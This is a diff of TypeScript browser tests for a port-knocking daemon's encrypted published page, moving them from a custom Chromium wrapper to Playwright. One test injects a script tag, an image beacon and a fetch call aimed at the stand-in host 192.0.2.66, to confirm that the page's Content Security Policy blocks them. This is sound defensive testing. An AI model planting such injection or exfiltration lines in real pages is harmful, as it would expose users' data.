@@ -1,15 +1,15 @@
 // Goal: whoever has a browser and their identity gets in by the published page alone: a real Chromium fetches page and list from a
 // real nginx, decrypts in the browser, and knocks; the real daemon opens the door. Nothing is asked of anybody else.
 import { execFileSync } from 'node:child_process'
-import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
+import { existsSync, readFileSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
+import type { Browser, Page } from 'playwright-core'
 import { afterEach, describe, expect, test } from 'vitest'
-import { Chromium, DESKTOP } from './chromium.ts'
-import type { Tab } from './chromium.ts'
+import { HAS_CHROMIUM, openTab, startChromium } from './chromium.ts'
 import { startKnockd } from './knockd.ts'
 import { IS_ROOT, CLIENT_4, Host, SERVER_4, pair } from './net.ts'
 import { HAS_NGINX, startNginx } from './nginx.ts'
-import { until } from './process.ts'
+import { LINE_LIMIT_MS, until } from './process.ts'
 import type { Process } from './process.ts'
 import { scratch } from './scratch.ts'
 import { watchWire } from './service.ts'
@@ -17,12 +17,13 @@ import { watchWire } from './service.ts'
 /** Where pictures of the page are left, if wanted: they are for people to look at. */
 const { PICTURES } = process.env
 const LIMIT_MS = 180_000
+const PHONE = { viewport: { width: 390, height: 844 }, deviceScaleFactor: 2, isMobile: true }
 
 const running: Process[] = []
-let chromium: Chromium | undefined
+let browser: Browser | undefined
 afterEach(async () => {
-  await chromium?.close()
-  chromium = undefined
+  await browser?.close()
+  browser = undefined
   for (const process of running.splice(0)) await process.stop()
 })
 
@@ -74,55 +75,56 @@ const setUp = async (lines: readonly string[], passphrase?: string): Promise<Set
 const openings = (notes: string): readonly string[] =>
   readFileSync(notes, { encoding: 'utf8', flag: 'a+' }).split('\n').filter(Boolean)
 
-const unlock = async (tab: Tab, key: string): Promise<void> => {
-  await tab.click('#key')
-  await tab.type(key)
-  await tab.press('Enter')
+const unlock = async (page: Page, key: string): Promise<void> => {
+  await page.fill('#key', key)
+  await page.press('#key', 'Enter')
 }
 
-const shown = async (tab: Tab): Promise<readonly number[]> =>
-  await tab.evaluate<number[]>(`[...document.querySelectorAll('#ports b')].map((each) => Number(each.textContent))`)
+const shown = async (page: Page): Promise<readonly number[]> =>
+  (await page.locator('#ports b').allTextContents()).map(Number)
 
-const picture = async (tab: Tab, name: string): Promise<void> => {
-  if (PICTURES === undefined) return
-  mkdirSync(PICTURES, { recursive: true })
-  await tab.picture(join(PICTURES, `${name}.png`), true)
+/** Waits until an element is visible and its text matches. */
+const see = async (page: Page, selector: string, pattern: RegExp, timeout = LINE_LIMIT_MS): Promise<void> =>
+  await page.locator(selector).filter({ hasText: pattern, visible: true }).waitFor({ timeout })
+
+const picture = async (page: Page, name: string): Promise<void> => {
+  if (PICTURES !== undefined) await page.screenshot({ path: join(PICTURES, `${name}.png`), fullPage: true })
 }
 
 // Debian's nginx starts by itself once it is installed, so that script/test asks for it only where CI is set.
-describe.skipIf(!IS_ROOT || !HAS_NGINX)('the published page', () => {
+describe.skipIf(!IS_ROOT || !HAS_NGINX || !HAS_CHROMIUM)('the published page', () => {
   test(
     'decrypts with a pasted identity, shows what the list has, and opens the door from the browser',
     async () => {
       const { server, client, daemon, identity, notes, ports } = await setUp([`Publish_Host = ${SERVER_4}`])
-      chromium = await Chromium.start(client)
-      const tab = await chromium.tab(DESKTOP)
+      browser = await startChromium(client)
+      const { page, requests, complaints } = await openTab(browser)
       const wire = await watchWire(client, `src host ${CLIENT_4} and not dst host ${SERVER_4}`)
       running.push(wire)
-      await tab.open(`http://${SERVER_4}/ssh.html`)
-      await tab.see('#lock', /Identity or passphrase/)
-      await picture(tab, 'locked-desktop-light')
+      await page.goto(`http://${SERVER_4}/ssh.html`)
+      await see(page, '#lock', /Identity or passphrase/)
+      await picture(page, 'locked-desktop-light')
       const first = ports()
-      await unlock(tab, identity)
-      await tab.see('#sequence', /Next sequence/)
-      await tab.see('#ports', /tcp/)
-      expect(await shown(tab)).toEqual(first)
-      await tab.see('#left', /^20$/)
-      await picture(tab, 'open-desktop-light')
-      await tab.click('#knock')
+      await unlock(page, identity)
+      await see(page, '#sequence', /Next sequence/)
+      await see(page, '#ports', /tcp/)
+      expect(await shown(page)).toEqual(first)
+      await see(page, '#left', /^20$/)
+      await picture(page, 'open-desktop-light')
+      await page.click('#knock')
       expect(await daemon.line(/OPEN/)).toBe(`${CLIENT_4}: ssh: OPEN SESAME`)
-      await tab.see('#status', /Knocked/)
+      await see(page, '#status', /Knocked/)
       await until('the opening', () => openings(notes).length === 1)
       await until('the next list', () => ports().join() !== first.join())
       // The next one, fetched anew: the sequence that was used is not shown again.
-      await tab.click('#next')
-      await until('the next sequence', async () => (await shown(tab)).join() === ports().join())
-      await tab.see('#left', /^19$/)
-      await picture(tab, 'knocked-desktop-light')
+      await page.click('#next')
+      await until('the next sequence', async () => (await shown(page)).join() === ports().join())
+      await see(page, '#left', /^19$/)
+      await picture(page, 'knocked-desktop-light')
       const own = new RegExp(`^http://${SERVER_4.replaceAll('.', '\\.')}(:[0-9]+)?/`)
-      expect(tab.requests.filter((url) => !own.test(url) && !url.startsWith('data:'))).toEqual([])
+      expect(requests.filter((url) => !own.test(url) && !url.startsWith('data:'))).toEqual([])
       // That a knocked port refuses is no fault of the page.
-      expect(tab.complaints.filter((text) => !/ERR_CONNECTION_REFUSED|ERR_ABORTED/.test(text))).toEqual([])
+      expect(complaints.filter((text) => !/ERR_CONNECTION_REFUSED|ERR_ABORTED/.test(text))).toEqual([])
       expect(wire.lines.filter((line) => /^IP6? /.test(line) && !/(ARP|ICMP6|ff02::)/.test(line))).toEqual([])
       await server.run(['true'])
     },
@@ -133,21 +135,21 @@ describe.skipIf(!IS_ROOT || !HAS_NGINX)('the published page', () => {
     'lets nothing out: what somebody wrote into it would not run, nor reach anybody else',
     async () => {
       const { client, identity, folder } = await setUp([])
-      chromium = await Chromium.start(client)
-      const tab = await chromium.tab(DESKTOP)
-      const page = readFileSync(join(folder, 'ssh.html'), 'utf8')
+      browser = await startChromium(client)
+      const { page, complaints } = await openTab(browser)
+      const html = readFileSync(join(folder, 'ssh.html'), 'utf8')
       const injected = '<script>window.stolen = 1</script><img src="http://192.0.2.66/x.png">'
-      writeFileSync(join(folder, 'ssh.html'), page.replace('<main', `${injected}<main`))
-      await tab.open(`http://${SERVER_4}/ssh.html`)
-      await unlock(tab, identity)
-      await tab.see('#sequence', /Next sequence/)
-      expect(await tab.evaluate('window.stolen ?? null')).toBeNull()
+      writeFileSync(join(folder, 'ssh.html'), html.replace('<main', `${injected}<main`))
+      await page.goto(`http://${SERVER_4}/ssh.html`)
+      await unlock(page, identity)
+      await see(page, '#sequence', /Next sequence/)
+      expect(await page.evaluate('window.stolen ?? null')).toBeNull()
       const answer = `fetch('http://192.0.2.66/?' + 'x').then(() => 'sent', (error) => String(error))`
-      expect(await tab.evaluate(answer)).toMatch(/TypeError/)
-      expect(tab.complaints.join('\n')).toMatch(/Content Security Policy/)
+      expect(await page.evaluate(answer)).toMatch(/TypeError/)
+      expect(complaints.join('\n')).toMatch(/Content Security Policy/)
       // Without Publish_Host it knocks nowhere, and says what to do.
-      expect(await tab.evaluate(`document.querySelector('#knock').checkVisibility()`)).toBe(false)
-      await tab.see('#commands', /telnet/)
+      expect(await page.evaluate(`document.querySelector('#knock').checkVisibility()`)).toBe(false)
+      await see(page, '#commands', /telnet/)
     },
     LIMIT_MS,
   )
@@ -157,26 +159,25 @@ describe.skipIf(!IS_ROOT || !HAS_NGINX)('the published page', () => {
     async () => {
       const passphrase = 'correct horse battery staple'
       const { client, folder } = await setUp([`Publish_Host = ${SERVER_4}`], passphrase)
-      chromium = await Chromium.start(client)
-      const tab = await chromium.tab({ width: 390, height: 844, scheme: 'dark' })
-      await tab.open(`http://${SERVER_4}/ssh.html`)
-      await picture(tab, 'locked-phone-dark')
-      await unlock(tab, 'wrong horse')
-      await tab.see('#trouble', /passphrase|identity/i, LIMIT_MS)
-      await picture(tab, 'trouble-phone-dark')
-      await tab.evaluate(`document.querySelector('#key').value = ''`)
-      await unlock(tab, passphrase)
-      await tab.see('#sequence', /Next sequence/, LIMIT_MS)
-      await picture(tab, 'open-phone-dark')
+      browser = await startChromium(client)
+      const { page } = await openTab(browser, { ...PHONE, colorScheme: 'dark' })
+      await page.goto(`http://${SERVER_4}/ssh.html`)
+      await picture(page, 'locked-phone-dark')
+      await unlock(page, 'wrong horse')
+      await see(page, '#trouble', /passphrase|identity/i, LIMIT_MS)
+      await picture(page, 'trouble-phone-dark')
+      await unlock(page, passphrase)
+      await see(page, '#sequence', /Next sequence/, LIMIT_MS)
+      await picture(page, 'open-phone-dark')
       // Nothing has to be scrolled sideways, down to the narrowest phone there is.
-      await tab.look({ width: 320, height: 640, scheme: 'dark' })
-      expect(await tab.evaluate('document.documentElement.scrollWidth')).toBeLessThanOrEqual(320)
-      await picture(tab, 'open-narrow-dark')
+      await page.setViewportSize({ width: 320, height: 640 })
+      expect(await page.evaluate('document.documentElement.scrollWidth')).toBeLessThanOrEqual(320)
+      await picture(page, 'open-narrow-dark')
       execFileSync('rm', [join(folder, 'ssh.age')])
-      const other = await chromium.tab({ width: 390, height: 844, scheme: 'light' })
-      await other.open(`http://${SERVER_4}/ssh.html`)
+      const { page: other } = await openTab(browser, { ...PHONE, colorScheme: 'light' })
+      await other.goto(`http://${SERVER_4}/ssh.html`)
       await unlock(other, passphrase)
-      await other.see('#trouble', /list/)
+      await see(other, '#trouble', /list/)
       await picture(other, 'gone-phone-light')
     },
     LIMIT_MS,
